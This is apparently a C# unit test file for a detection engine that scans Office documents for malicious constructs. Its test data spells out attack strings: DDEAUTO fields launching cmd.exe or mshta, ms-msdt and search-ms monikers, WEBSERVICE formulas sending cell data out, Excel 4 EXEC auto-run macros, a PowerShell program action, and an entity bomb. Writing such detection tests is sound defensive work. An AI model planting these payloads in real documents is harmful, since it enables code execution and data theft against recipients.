using FsCheck;
using FsCheck.Fluent;
using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Engine.Attachments;
using Platform.Engine.Attachments.Ooxml;
using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Attachments.Ooxml;

public sealed class OoxmlTests
{
    private const string Settings = "word/settings.xml";

    public static TheoryData<string, string, string> Targets => new()
    {
        { "office-external-template", "attachedTemplate", "https://files.example/a.dotm" },
        { "office-external-object", "oleObject", "http://203.0.113.9/a.doc" },
        { "office-external-object", "frame", "https://files.example/a" },
        { "office-external-object", "subDocument", "https://files.example/a" },
        { "office-moniker", "oleObject", "mhtml:https://files.example/a!x-usc:https://files.example/a" },
        { "office-moniker", "oleObject", "https://files.example/page.html!" },
        { "office-moniker", "oleObject", "ms-msdt:/id PCWDiagnostic" },
        { "office-moniker", "hyperlink", "search-ms:query=a&crumb=location:\\\\203.0.113.9\\a" },
        { "office-remote-share", "image", "\\\\203.0.113.9\\share\\a.png" },
        { "office-remote-share", "attachedTemplate", "file://files.example@80/a.dotm" },
        { "office-remote-share", "image", "file:///\\\\203.0.113.9\\a.png" },
    };

    [Theory]
    [MemberData(nameof(Targets))]
    public void What_is_fetched_on_opening_is_told(string fact, string type, string target)
    {
        Assert.Equal([fact], Word(new OoxmlWriter().Document("").Relation(Settings, type, target, external: true)).Ids());
    }

    [Theory]
    [InlineData("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")]
    [InlineData("attachedTemplate", "\\\\fs01\\templates\\letter.dotx")]
    [InlineData("attachedTemplate", "\\\\192.168.1.4\\templates\\letter.dotx")]
    [InlineData("attachedTemplate", "\\\\fs01.acme.local\\templates\\letter.dotx")]
    [InlineData("hyperlink", "https://partner.example/")]
    [InlineData("image", "https://partner.example/logo.png")]
    [InlineData("attachedTemplate", "http://portal/templates/letter.dotx")]
    [InlineData("attachedTemplate", "https://10.1.2.3/templates/letter.dotx")]
    [InlineData("hyperlink", "javascript:void(0)")]
    [InlineData("image", "mhtml:file://C:\\data\\page.mht!logo.png")]
    [InlineData("video", "https://video.example/embed/1")]
    [InlineData("oleObject", "file:///C:\\data\\book.xlsx")]
    public void What_is_near_or_waits_for_a_click_is_no_fact(string type, string target)
    {
        Assert.Empty(Word(new OoxmlWriter().Document("").Relation(Settings, type, target, external: true)).Ids());
    }

    [Fact]
    public void Hyperlinks_are_links_of_the_mail()
    {
        Assert.Equal([("https://partner.example/a", "")], Word(new OoxmlWriter().Document("").Relation("word/document.xml", "hyperlink", "https://partner.example/a", external: true)).Links);
    }

    public static TheoryData<string[]> Dde => new(
        ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""],
        ["DD", "E", "AUTO", " ", "c:\\\\Win", "dows\\\\System32\\\\cmd.exe \"/c ca", "lc\""],
        [" dde ", "\"C:\\\\Programs\\\\Microsoft\\\\Office\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\mshta.exe\" \"https://files.example/a\""],
        ["DDEAUTO MSEXCEL \"\\\\..\\\\..\\\\Windows\\\\System32\\\\cmd.exe /c calc\" \"x\""],
        ["DDEAUTO unknown topic"]);

    [Theory]
    [MemberData(nameof(Dde))]
    public void A_field_that_starts_a_program_is_seen_over_all_its_runs(string[] pieces)
    {
        Assert.Equal(["office-dde"], Word(new OoxmlWriter().Document(OoxmlWriter.Field(pieces))).Ids());
    }

    [Fact]
    public void A_field_whose_program_another_field_spells_in_numbers_is_seen()
    {
        const string body = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO \"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 99 109 100</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText>\" \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

        Assert.Equal("DDEAUTO \"cmd\" \"/c calc\"", Word(new OoxmlWriter().Document(body)).Value("office-dde"));
    }

    [Theory]
    [InlineData("PAGE")]
    [InlineData("TOC \\o \"1-3\" \\h")]
    [InlineData("DDEAUTO Excel.Sheet.8 \"C:\\\\data\\\\book.xls\" \"Sheet1!R1C1\" \\a \\r")]
    [InlineData("LINK Excel.Sheet.12 \"C:\\\\data\\\\book.xlsx\" \"Sheet1!R1C1\" \\a \\f 0")]
    [InlineData("INCLUDEPICTURE \"https://partner.example/logo.png\" \\d")]
    public void Fields_of_honest_documents_are_no_fact(string instruction)
    {
        Assert.Empty(Word(new OoxmlWriter().Document(OoxmlWriter.Field(instruction))).Ids());
    }

    [Fact]
    public void The_text_is_read()
    {
        Assert.Equal("Please enable content\nto go on", Word(new OoxmlWriter().Document(OoxmlWriter.Paragraph("Please enable content") + OoxmlWriter.Paragraph("to go on"))).ReadableText);
    }

    [Fact]
    public void Embedded_files_are_members_and_parts_are_not()
    {
        var package = new OoxmlWriter().Document("").Part("word/embeddings/oleObject1.bin", [1, 2]).Part("word/afchunk.mht", "x").Part("word/tool.exe", [1]).Part("word/media/image1.png", [1]).Part("word/theme/theme1.xml", "<a/>").Part("word/printerSettings1.bin", [1]);

        Assert.Equal(["word/embeddings/oleObject1.bin", "word/afchunk.mht", "word/tool.exe", "word/media/image1.png"], Word(package).Members.Select(member => member.Name));
    }

    [Theory]
    [InlineData("office-remote-function", "=WEBSERVICE(\"https://api.example/rate?c=\"&A1)")]
    [InlineData("office-remote-send", "=WEBSERVICE(\"https://files.example/?d=\"&TEXTJOIN(\",\",TRUE,A1:B9))")]
    [InlineData("office-remote-send", "=WEBSERVICE(\"https://files.example/?d=\"&INFO(\"directory\"))")]
    [InlineData("office-dde", "=cmd|'/c calc'!A0")]
    [InlineData("office-dde", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''")]
    public void Formulas_that_reach_outside_are_told(string fact, string formula)
    {
        Assert.Equal([fact], Excel(new OoxmlWriter().Sheet("Sheet1", [("A1", "1"), ("A2", formula)])).Ids());
    }

    [Theory]
    [InlineData("=SUM(A1:B9)")]
    [InlineData("=RSS|'7203.T'!現在値")]
    [InlineData("=HYPERLINK(\"https://partner.example/\",\"more\")")]
    public void Formulas_of_honest_workbooks_are_no_fact(string formula)
    {
        Assert.Empty(Excel(new OoxmlWriter().Sheet("Sheet1", [("A1", "1"), ("A2", formula)])).Ids());
    }

    [Fact]
    public void A_macro_sheet_is_one_script_of_its_formulas()
    {
        var contents = Excel(new OoxmlWriter().Sheet("Sheet1", [("B2", "cmd /c calc")]).Sheet("m1", [("A1", "=EXEC(Sheet1!B2)"), ("A2", "text"), ("A3", "=HALT()")], "veryHidden", macro: true).Name("_xlnm.Auto_Open", "m1!$A$1"));

        Assert.Equal(["excel4-sheet", "excel4-hidden", "excel4-auto-run", "excel4-suspicious"], contents.Ids());
        var script = contents.Script(ScriptLanguage.ExcelMacro);
        Assert.Equal("m1!A1: =EXEC(Sheet1!B2)\nm1!A2: =\"text\"\nm1!A3: =HALT()\n", script.Source);
        Assert.Equal(("cmd /c calc", "m1!$A$1"), (DocumentValues.Parse(script.Page)["Sheet1!B2"], DocumentValues.Parse(script.Page)["Name._xlnm.Auto_Open"]));
    }

    [Fact]
    public void A_link_to_a_program_by_dde_is_told()
    {
        var package = new OoxmlWriter().Sheet("Sheet1", [("A1", "1")]).Part("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"x\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");

        Assert.Equal(["office-dde"], Excel(package).Ids());
    }

    [Fact]
    public void A_presentation_that_starts_a_program_is_told()
    {
        var slide = "<p:sp><a:hlinkMouseOver r:id=\"rId9\" action=\"ppaction://program\"/></p:sp>";
        var package = new OoxmlWriter().Slide(slide, "Results").Relation("ppt/slides/slide1.xml", "hyperlink", "powershell%20-nop", external: true, "rId9");
        var contents = ReadFile.By(new OoxmlReader(), "a.pptx", package.ToArray());

        Assert.Equal(("powershell -nop", "Results"), (contents.Value("office-program-action"), contents.ReadableText));
    }

    [Fact]
    public void Entities_are_not_expanded()
    {
        var bomb = "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]><w:document xmlns:w=\"w\"><w:t>&b;</w:t></w:document>";

        Assert.Equal("", Word(new OoxmlWriter().Document("").Part("word/footnotes.xml", bomb)).ReadableText);
    }

    [Fact]
    public void A_damaged_part_does_not_hide_the_others() => Check.QuickThrowOnFailure(Prop.ForAll<byte[]>(bytes =>
        Word(new OoxmlWriter().Document(OoxmlWriter.Field("DDEAUTO cmd \"/c calc\"")).Part("word/header1.xml", bytes).Part("word/_rels/header1.xml.rels", bytes)).Ids().Contains("office-dde")));

    private static FileContents Word(OoxmlWriter package) => ReadFile.By(new OoxmlReader(), "a.docx", package.ToArray());

    private static FileContents Excel(OoxmlWriter package) => ReadFile.By(new OoxmlReader(), "a.xlsx", package.ToArray());
}
